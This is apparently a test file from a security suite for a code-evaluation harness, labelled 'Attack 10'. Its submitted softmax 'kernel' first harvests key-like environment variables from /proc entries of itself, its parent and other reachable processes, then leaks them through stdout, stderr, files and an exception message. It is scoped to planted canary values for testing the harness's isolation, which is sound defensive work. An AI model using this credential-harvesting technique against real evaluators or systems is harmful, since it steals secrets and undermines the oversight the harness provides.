"""Attack 10: steal secrets from the environment of the evaluator and of every process it sees.

Reads its own environment, /proc/self/environ, its parent's and every other /proc/<pid>/environ
in reach, keeps what looks like a key, and exfiltrates it every way it can: stdout, stderr,
files (its working dir, /tmp, the parent's working dir), and finally an exception whose message
holds them (which a harness typically copies into its log).

Safety (this may run where no jail exists yet): it only reads processes in the test's own process
subtree, and keeps only values containing `accelopt-canary` (the test's planted secrets).
"""

import contextlib
import os
import re

import numpy as np
from _reach import _environ, _reach  # accelopt-attack-include: inlined by attack_source

_KEYISH = re.compile(r"KEY|TOKEN|SECRET|PASSWORD|PASSWD|DSN|CREDENTIAL|AUTH", re.I)
_CANARY = "accelopt-canary"


def _steal():
    found = {}
    sources = [dict(os.environ), _environ("self")]
    sources += [_environ(pid) for pid in sorted(_reach())]
    for env in sources:
        for name, value in env.items():
            if _KEYISH.search(name) and _CANARY in value:
                found[name] = value
    return found


def kernel(x):
    stolen = _steal()
    if stolen:
        text = "STOLEN " + " ".join(f"{k}={v}" for k, v in sorted(stolen.items()))
        print(text, flush=True)
        os.write(2, (text + "\n").encode())
        targets = ["stolen.txt", f"/tmp/accelopt-attack-secrets-{os.getpid()}.txt"]
        with contextlib.suppress(OSError):
            targets.append(
                os.path.join(
                    os.readlink(f"/proc/{os.getppid()}/cwd"), "accelopt-attack-secrets.txt"
                )
            )
        for target in targets:
            with contextlib.suppress(OSError), open(target, "w") as f:
                f.write(text)
        raise RuntimeError(text)
    out = x - x.max(axis=1, keepdims=True)
    np.exp(out, out=out)
    out /= out.sum(axis=1, keepdims=True)
    return out
